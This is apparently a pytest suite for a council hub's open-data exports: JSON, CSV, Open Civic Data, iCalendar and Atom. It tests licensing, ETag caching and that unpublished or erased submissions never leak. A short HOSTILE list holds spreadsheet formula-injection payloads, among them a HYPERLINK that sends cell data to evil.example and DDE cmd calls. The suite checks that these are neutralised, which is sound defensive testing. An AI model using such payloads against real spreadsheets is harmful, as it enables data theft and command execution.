"""Open-data exports over real HTTP, on SQLite and PostgreSQL: each parses with a real parser
(the csv module, pupa's Open Civic Data event schema, icalendar, feedparser), names the
council's licence, is cacheable (ETag, 304), and holds nothing but the published record: a
meeting with pending, rejected, taken-down and erased submissions, wards, postcodes and names
given only with unpublished text leaks none of them."""

from __future__ import annotations

import csv
import io
import json
import warnings
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import feedparser
import httpx
import pytest
from icalendar import Calendar
from itsdangerous import URLSafeSerializer

from hub.actions.agenda import ItemSpec
from hub.actions.councils import OGL_NAME, OGL_URL, set_licence
from hub.actions.meetings import create_meeting
from hub.actions.privacy import erase_participant
from hub.actions.social import store_poll
from hub.actions.social_sources import add_source
from hub.events.publish import writing
from hub.shapes.staff import pseudonym
from hub.shapes.tables import CONTRIBUTION_COLUMNS
from hub.web.participants import COOKIE
from integrations.social.models import FetchResult, Post
from tests.support import (
    RunningServer,
    Seeded,
    StaffClient,
    contribute,
    http_client,
    resident,
    set_policy,
    sign_in,
)

# The OCD sample, copied from the shared samples with the others (see its README).
SAMPLES = Path(__file__).resolve().parent.parent / "integrations" / "samples"
# Cells a spreadsheet would run: each must reach the CSV as text.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "=cmd|' /C notepad'!'A1'",
]
QUOTED = 'She said "no", then left,\nand came back'
PENDING = "Pending text nobody has checked"
REJECTED = "Rejected text, abusive"
HIDDEN = "Taken down: Jo lives at 12 Hill St"
ERASED = "Erased at the author's request"
WARD = "Penrhos ward"
POSTCODE = "LL77 7XX"
SECRET_NAME = "Name given only with unpublished text"
NOW = datetime.now(UTC)
TAGS = ("aberglascabinet",)
SOCIAL = Post(
    platform="mastodon",
    external_id="101",
    uri="https://social.example/users/someone/statuses/101",
    url="https://social.example/@someone/101",
    author_handle="someone@social.example",
    author_name="Someone Else",
    text="A social post about the library #AberglasCabinet",
    language="en",
    created_at=NOW,
    hashtags=TAGS,
)


async def _participant(server: RunningServer, client: httpx.AsyncClient) -> str:
    signed = client.cookies[COOKIE]
    serializer = URLSafeSerializer(
        server.app.state.settings.secret_key, salt="council-hub.participant"
    )
    value: str = serializer.loads(signed)
    return value


async def _sent(
    client: httpx.AsyncClient, mid: int, body: str, kind: str = "comment", **fields: Any
) -> int:
    r = await contribute(client, mid, body, kind, **fields)
    assert r.status_code == 201, r.text
    return int(r.json()["id"])


async def _moderate(clerk: StaffClient, mid: int, cid: int, action: str, reason: str = "") -> None:
    form = {"action": action, **({"reason": reason} if reason else {})}
    r = await clerk.post(f"/staff/meetings/{mid}/contributions/{cid}/moderate", form)
    assert r.status_code == 200, r.text


async def _stage(server: RunningServer, seeded: Seeded) -> dict[str, Any]:
    """The seeded meeting with every kind of submission, and a meeting to come."""
    mid = seeded.meeting_id
    await set_policy(server.services.sessionmaker, rate_per_participant=100)
    clerk = await sign_in(server.base_url, seeded.users["clerk"])
    author = resident(server.base_url)
    await author.get(f"/meetings/{mid}")
    eraser = resident(server.base_url)
    await eraser.get(f"/meetings/{mid}")
    published = []
    for text in [*HOSTILE, QUOTED]:
        cid = await _sent(author, mid, text, display_name="=Sam", area=WARD)
        await _moderate(clerk, mid, cid, "approve")
        published.append(cid)
    question = await _sent(
        author, mid, "Will it open on Sundays?", "question", item_id=seeded.item_ids[2]
    )
    await _moderate(clerk, mid, question, "approve")
    published.append(question)
    await _sent(author, mid, PENDING, display_name=SECRET_NAME, area=WARD)
    rejected = await _sent(author, mid, REJECTED, display_name=SECRET_NAME, area=POSTCODE)
    await _moderate(clerk, mid, rejected, "reject", "abusive")
    hidden = await _sent(author, mid, HIDDEN, display_name=SECRET_NAME, area=WARD)
    await _moderate(clerk, mid, hidden, "approve")
    await _moderate(clerk, mid, hidden, "hide", "personal")
    erased = await _sent(eraser, mid, ERASED, display_name=SECRET_NAME, area=POSTCODE)
    await _moderate(clerk, mid, erased, "approve")
    # A social post, published: other people's words, exported with their attribution.
    svc = server.services
    async with writing(svc.sessionmaker, svc.broker) as w:
        source = await add_source(w, "aberglas", "mastodon", "social.example")
    async with writing(svc.sessionmaker, svc.broker) as w:
        stored = await store_poll(w, source.id, FetchResult((SOCIAL,), "c1"), {mid: TAGS}, NOW)
    (post_id,) = stored.new[mid]
    await _moderate(clerk, mid, post_id, "approve")
    async with writing(svc.sessionmaker, svc.broker) as w:
        await erase_participant(w, await _participant(server, eraser), datetime.now(UTC))
        future = await create_meeting(
            w,
            council_slug="aberglas",
            title="Budget; = setting",
            body_name="Full Council",
            starts_at=datetime.now(UTC) + timedelta(days=10),
            location="County Hall, Llangefni",
            items=[ItemSpec("1", "Budget 2027"), ItemSpec("2", "Council tax")],
        )
    participants = [await _participant(server, c) for c in (author, eraser)]
    for client in (author, eraser):
        await client.aclose()
    await clerk.http.aclose()
    return {
        "post": post_id,
        "published": published,
        "question": question,
        "future": future.id,
        "private": [
            PENDING,
            REJECTED,
            HIDDEN,
            ERASED,
            WARD,
            POSTCODE,
            SECRET_NAME,
            *participants,
            *(pseudonym(p) for p in participants),
        ],
    }


def _ocd_validate(event: dict[str, Any]) -> None:
    """pupa's own validation of an event (its schema, its validator: JSON Schema draft 3 with
    its date types and URI format), as pupa runs it on what a scraper made."""
    with warnings.catch_warnings():  # pupa 0.11 uses jsonschema APIs deprecated since
        warnings.simplefilter("ignore", DeprecationWarning)
        from pupa.scrape.base import BaseModel
        from pupa.scrape.schemas.event import schema

        class Exported(BaseModel):  # type: ignore[misc]
            _type = "event"
            _schema = schema

            def as_dict(self) -> dict[str, Any]:
                return event

        Exported().validate()


async def test_exports_parse_name_the_licence_and_hold_only_the_published_record(
    server: RunningServer, seeded: Seeded
) -> None:
    staged = await _stage(server, seeded)
    mid = seeded.meeting_id
    async with http_client(server.base_url, timeout=10) as http:
        answers = {
            path: await http.get(path)
            for path in (
                f"/api/meetings/{mid}/export.json",
                f"/api/meetings/{mid}/contributions.csv",
                f"/api/meetings/{mid}/ocd-event.json",
                "/api/councils/aberglas/meetings.ics",
                "/api/meetings.atom",
                "/api/meetings.atom?council=aberglas",
            )
        }
    for path, r in answers.items():
        assert r.status_code == 200, (path, r.text)
        assert r.headers["cache-control"] == "public, max-age=60", path
        assert r.headers["etag"].startswith('"'), path
        leaks = [p for p in staged["private"] if p in r.text]
        assert leaks == [], (path, leaks)
        if path != "/api/meetings.atom":  # across councils: each entry names its own
            assert r.headers["link"] == f'<{OGL_URL}>; rel="license"', path

    # The published social post is exported attributed, and marked as not under the licence.
    record = answers[f"/api/meetings/{mid}/export.json"].json()
    (post,) = [c for c in record["contributions"] if c["kind"] == "post"]
    assert post["id"] == staged["post"] and post["body"] == SOCIAL.text
    assert (post["post"]["url"], post["post"]["author_handle"]) == (
        SOCIAL.url,
        SOCIAL.author_handle,
    )
    assert "licence does not cover them" in record["posts_rights"]

    # JSON: the record, published only, in the order published, under the licence.
    record = answers[f"/api/meetings/{mid}/export.json"].json()
    assert [c["id"] for c in record["contributions"]] == [*staged["published"], staged["post"]]
    assert record["licence"]["name"] == OGL_NAME and record["licence"]["url"] == OGL_URL
    assert "Aberglas County Council" in record["licence"]["attribution"]
    assert record["moderation"] == {
        "published": len(staged["published"]),  # residents' submissions: not the post
        "pending": 1,
        "rejected": {"abusive": 1},
        "hidden": {"personal": 1, "erased": 1},
    }
    assert [i["number"] for i in record["items"]] == ["1", "2", "3", "3a", "3b", "4"]

    # CSV: RFC 4180 through the csv module, the columns in order, hostile cells as text.
    raw = answers[f"/api/meetings/{mid}/contributions.csv"]
    assert raw.headers["content-type"].startswith("text/csv")
    assert "attachment" in raw.headers["content-disposition"]
    assert not raw.content.startswith(b"\xef\xbb\xbf")  # no byte-order mark
    assert raw.content.count(b"\r\n") >= len(staged["published"]) + 1
    rows = list(csv.reader(io.StringIO(raw.content.decode("utf-8"), newline="")))
    assert rows[0] == [name for name, _ in CONTRIBUTION_COLUMNS]
    table = [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
    assert [int(r["id"]) for r in table] == [*staged["published"], staged["post"]]
    social = table.pop()
    assert (social["kind"], social["platform"], social["post_url"]) == (
        "post",
        "mastodon",
        SOCIAL.url,
    )
    assert social["author_handle"] == SOCIAL.author_handle and social["licence"] == ""
    assert "licence does not cover them" in social["rights"]
    assert {r["rights"] for r in table} == {""}
    bodies = [r["body"] for r in table]
    assert bodies[: len(HOSTILE)] == ["'" + h for h in HOSTILE]
    assert bodies[len(HOSTILE)] == QUOTED  # quotes, a comma and a line break round-trip
    for row in table:
        for name, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)
    assert {r["display_name"] for r in table} == {"'=Sam", ""}
    question = next(r for r in table if int(r["id"]) == staged["question"])
    assert (question["kind"], question["item_number"]) == ("question", "3")
    assert question["item_title"] == "Library opening hours"
    assert {r["licence"] for r in table} == {OGL_NAME}

    # Open Civic Data: pupa's event schema, and the sample's shape.
    event = answers[f"/api/meetings/{mid}/ocd-event.json"].json()
    _ocd_validate(event)
    with pytest.raises(ValueError, match="validation of"):  # the check is not vacuous
        _ocd_validate({**event, "start_date": "2026-11-23T18:30:00.000Z"})
    sample_text = (SAMPLES / "ocd-event.json").read_text()
    sample = json.loads(sample_text[sample_text.index("{") :])  # pupa's log line comes first
    assert set(event) <= set(sample), set(event) - set(sample)
    assert set(event["agenda"][0]) <= set(sample["agenda"][0]) | {"extras"}
    assert [a["order"] for a in event["agenda"]] == ["1", "2", "3", "3a", "3b", "4"]
    assert event["start_date"] == "2026-11-23T18:30:00+00:00"
    assert event["extras"]["licence"]["url"] == OGL_URL

    # iCalendar: the future meeting, with its agenda; the past one is not upcoming.
    cal = Calendar.from_ical(answers["/api/councils/aberglas/meetings.ics"].content)
    events = {str(e["uid"]): e for e in cal.walk("VEVENT")}
    assert list(events) == [f"meeting-{staged['future']}@127.0.0.1"]
    only = events[f"meeting-{staged['future']}@127.0.0.1"]
    assert str(only["summary"]) == "Budget; = setting"
    assert str(only["location"]) == "County Hall, Llangefni"
    assert "1 Budget 2027\n2 Council tax" in str(only["description"])
    assert only["dtstart"].dt.tzinfo is not None
    assert only["url"] == f"{server.base_url}/meetings/{staged['future']}"
    assert OGL_NAME in str(cal["description"])

    # Atom: a valid feed (feedparser flags any malformation), newest first, with rights.
    for path in ("/api/meetings.atom", "/api/meetings.atom?council=aberglas"):
        feed = feedparser.parse(answers[path].content)
        assert not feed.bozo, (path, feed.get("bozo_exception"))
        links = [e.link for e in feed.entries]
        assert links[0] == f"{server.base_url}/meetings/{staged['future']}"
        assert all(OGL_NAME in e.rights for e in feed.entries)
    only_ours = feedparser.parse(answers["/api/meetings.atom?council=aberglas"].content)
    assert len(only_ours.entries) == 2 and OGL_NAME in only_ours.feed.rights


async def test_exports_revalidate_with_their_etag(server: RunningServer, seeded: Seeded) -> None:
    """A CDN holding a copy asks again with If-None-Match: 304 with no body while nothing
    changed, a new body and ETag once something did (a comment published, the licence)."""
    mid = seeded.meeting_id
    paths = [
        f"/api/meetings/{mid}/export.json",
        f"/api/meetings/{mid}/contributions.csv",
        f"/api/meetings/{mid}/ocd-event.json",
        "/api/councils/aberglas/meetings.ics",
        "/api/meetings.atom?council=aberglas",
        "/api/openapi.json",
    ]
    async with http_client(server.base_url, timeout=10) as http:
        tags = {p: (await http.get(p)).headers["etag"] for p in paths}
        for path, tag in tags.items():
            again = await http.get(path, headers={"If-None-Match": tag})
            assert again.status_code == 304 and again.content == b"", path
            assert again.headers["etag"] == tag
            listed = await http.get(path, headers={"If-None-Match": f'"other", W/{tag}'})
            assert listed.status_code == 304, path
            stale = await http.get(path, headers={"If-None-Match": '"stale"'})
            assert stale.status_code == 200 and stale.headers["etag"] == tag, path

        clerk = await sign_in(server.base_url, seeded.users["clerk"])
        async with resident(server.base_url) as someone:
            await someone.get(f"/meetings/{mid}")
            cid = await _sent(someone, mid, "A new comment")
        await _moderate(clerk, mid, cid, "approve")
        await clerk.http.aclose()
        for path in paths[:2]:  # the OCD event holds the agenda, not what residents said
            changed = await http.get(path, headers={"If-None-Match": tags[path]})
            assert changed.status_code == 200 and changed.headers["etag"] != tags[path], path

        svc = server.services
        async with writing(svc.sessionmaker, svc.broker) as w:
            await set_licence(w, "aberglas", "", "")
        record = (await http.get(f"/api/meetings/{mid}/export.json")).json()
        assert record["licence"]["name"] is None and record["licence"]["url"] is None
        assert "has not stated a licence" in record["licence"]["attribution"]
        r = await http.get("/api/councils/aberglas/meetings.ics")
        assert "link" not in r.headers and r.headers["etag"] != tags[paths[3]]
        async with writing(svc.sessionmaker, svc.broker) as w:
            await set_licence(
                w, "aberglas", "CC BY 4.0", "https://creativecommons.org/licenses/by/4.0/"
            )
        r = await http.get(f"/api/meetings/{mid}/contributions.csv")
        assert r.headers["link"] == '<https://creativecommons.org/licenses/by/4.0/>; rel="license"'
        assert "CC BY 4.0" in r.text


async def test_unknown_meetings_and_councils_are_404(server: RunningServer, seeded: Seeded) -> None:
    async with http_client(server.base_url, timeout=10) as http:
        for path in (
            "/api/meetings/999999/export.json",
            "/api/meetings/999999/contributions.csv",
            "/api/meetings/999999/ocd-event.json",
            "/api/councils/nowhere/meetings.ics",
            "/api/meetings.atom?council=nowhere",
        ):
            r = await http.get(path)
            assert r.status_code == 404 and r.json()["error"] == "not_found", path
